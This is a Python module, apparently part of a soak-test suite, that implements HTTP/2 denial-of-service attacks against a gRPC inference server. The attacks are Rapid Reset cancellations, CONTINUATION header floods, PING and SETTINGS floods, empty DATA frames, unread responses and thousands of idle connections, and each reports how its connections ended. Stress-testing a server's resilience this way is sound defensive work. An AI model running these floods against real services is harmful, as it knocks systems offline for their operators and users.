"""Attacks by frames and connections, without a valid call.

Each returns how its connections ended. Not here: what calls carry (bodies.py), HTTP/2 (wire.py).
"""

import asyncio
import contextlib
import time
from collections import Counter
from collections.abc import Callable

from tests.soaks.attacks.wire import (
    CONTINUATION,
    DATA,
    END_STREAM,
    HEADERS,
    PING,
    RST_STREAM,
    SETTINGS,
    Address,
    Connection,
    frame,
)

SECONDS, CONNECTIONS = 8.0, 4
CANCEL = (8).to_bytes(4)
IDLE_CONNECTIONS, IDLE_SECONDS = 5000, 12.0
METADATA = "/inference.GRPCInferenceService/ServerMetadata"

# Sends the next frames on a connection.
Step = Callable[[Connection], None]


async def rapid_reset(address: Address) -> Counter[str]:
    """Calls that are cancelled at once, as many as the server takes."""

    def step(connection: Connection) -> None:
        for _ in range(50):
            stream = connection.call()
            connection.send(frame(RST_STREAM, 0, stream, CANCEL))
            del connection.calls[stream]

    return await _flood(address, step)


async def continuation_flood(address: Address) -> Counter[str]:
    """Headers that never end: CONTINUATION frames without END_HEADERS."""
    begun: set[Connection] = set()

    def step(connection: Connection) -> None:
        if connection not in begun:
            begun.add(connection)
            connection.send(frame(HEADERS, 0, 1, connection.block()))
        # A literal field without indexing, with a name and a value of 100 bytes.
        connection.send(frame(CONTINUATION, 0, 1, (b"\x00\x64" + b"n" * 100 + b"\x64" + b"v" * 100) * 80))

    return await _flood(address, step)


async def ping_flood(address: Address) -> Counter[str]:
    """PINGs, of which the server's answers are read."""
    return await _flood(address, lambda connection: connection.send(frame(PING, payload=bytes(8)) * 500))


async def settings_flood(address: Address) -> Counter[str]:
    """Empty SETTINGS, each of which a server must acknowledge."""
    return await _flood(address, lambda connection: connection.send(frame(SETTINGS) * 500))


async def empty_frames(address: Address) -> Counter[str]:
    """DATA without bytes, which no window bounds."""

    def step(connection: Connection) -> None:
        if not connection.calls:
            connection.call()
        connection.send(frame(DATA, 0, 1) * 500)

    return await _flood(address, step)


async def unread_pings(address: Address) -> Counter[str]:
    """PINGs and SETTINGS, of which the server's answers are never read."""
    frames = (frame(PING, payload=bytes(8)) + frame(SETTINGS)) * 250

    def step(connection: Connection) -> None:
        connection.stop_reading()
        connection.send(frames)

    return await _flood(address, step, connections=50)


async def unread_answers(address: Address) -> Counter[str]:
    """Calls whose answers are never read."""

    def step(connection: Connection) -> None:
        connection.stop_reading()
        for _ in range(20):
            stream = connection.call(METADATA)
            connection.send(frame(DATA, END_STREAM, stream, bytes(5)))

    return await _flood(address, step, connections=50)


async def idle_connections(address: Address) -> Counter[str]:
    """5,000 connections that do nothing; half of them do not even send HTTP/2's preface."""
    outcome: Counter[str] = Counter()
    held: list[Connection] = []
    places = asyncio.Semaphore(100)

    async def hold(index: int) -> None:
        async with places:
            try:
                async with asyncio.timeout(IDLE_SECONDS):
                    held.append(await Connection.open(address, speaks=bool(index % 2)))
            except (OSError, TimeoutError):
                outcome["not connected"] += 1

    await asyncio.gather(*map(hold, range(IDLE_CONNECTIONS)))
    await asyncio.sleep(IDLE_SECONDS)
    for connection in held:
        outcome[connection.end or "open"] += 1
        connection.close()
    return outcome


async def _flood(address: Address, step: Step, *, connections: int = CONNECTIONS) -> Counter[str]:
    """Repeat `step` on each connection for SECONDS, and connect anew if the server closes it."""
    ends: Counter[str] = Counter()
    stop = time.monotonic() + SECONDS

    async def attack() -> None:
        while time.monotonic() < stop:
            try:
                connection = await Connection.open(address)
            except OSError:
                ends["not connected"] += 1
                await asyncio.sleep(0.1)
                continue
            while time.monotonic() < stop and not connection.ended():
                step(connection)
                with contextlib.suppress(TimeoutError):
                    await asyncio.wait_for(connection.drained(), max(0.0, stop - time.monotonic()))
            ends[connection.end or "open"] += 1
            connection.close()

    await asyncio.gather(*(attack() for _ in range(connections)))
    return ends
